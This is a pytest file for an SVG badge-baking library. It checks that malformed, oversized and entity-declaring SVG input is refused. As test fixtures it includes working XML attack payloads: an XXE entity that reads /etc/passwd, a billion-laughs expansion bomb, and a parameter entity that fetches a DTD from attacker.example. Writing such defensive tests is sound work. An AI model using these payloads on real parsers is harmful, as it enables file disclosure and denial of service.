"""Reading SVG as XML: hostile XML is refused before it can cost anything."""

from __future__ import annotations

import pytest

from microcred.baking import BakingError, bake_svg, sanitize_svg, unbake
from tests.baking.samples import JWT


def test_it_refuses_xml_that_is_not_an_svg() -> None:
    with pytest.raises(BakingError, match=r"not an SVG image \(its root is <html>\)"):
        unbake(b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>')


@pytest.mark.parametrize(
    "svg",
    [
        b"<svg",
        b"<svg></g>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><b:credential/></svg>',
        b"<svg/><svg/>",
        b'<?xml version="1.0" encoding="no-such-encoding"?><svg/>',
    ],
)
def test_it_refuses_an_svg_that_is_not_well_formed(svg: bytes) -> None:
    with pytest.raises(BakingError, match="not well-formed XML"):
        unbake(svg)
    with pytest.raises(BakingError, match="not well-formed XML"):
        sanitize_svg(svg)


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:b="https://purl.imsglobal.org/ob/v3p0">
<b:credential>&xxe;</b:credential></svg>"""
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY lol "lol">\n'
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>'
)
PARAMETER_ENTITY = b"""<!DOCTYPE svg [
<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("svg", [XXE, BILLION_LAUGHS, PARAMETER_ENTITY])
def test_it_refuses_an_svg_that_declares_entities(svg: bytes) -> None:
    for operation in (unbake, sanitize_svg, lambda data: bake_svg(data, JWT)):
        with pytest.raises(BakingError, match="declares XML entities"):
            operation(svg)


def test_it_refuses_an_svg_with_too_many_tags() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g/>" * 50_001 + b"</svg>"
    with pytest.raises(BakingError, match="more than 50000 tags"):
        unbake(svg)


def test_it_refuses_an_svg_with_too_many_attributes() -> None:
    attributes = b" ".join(b'a%d=""' % i for i in range(100_001))
    with pytest.raises(BakingError, match="more than 100000 attributes"):
        unbake(b'<svg xmlns="http://www.w3.org/2000/svg" ' + attributes + b"/>")
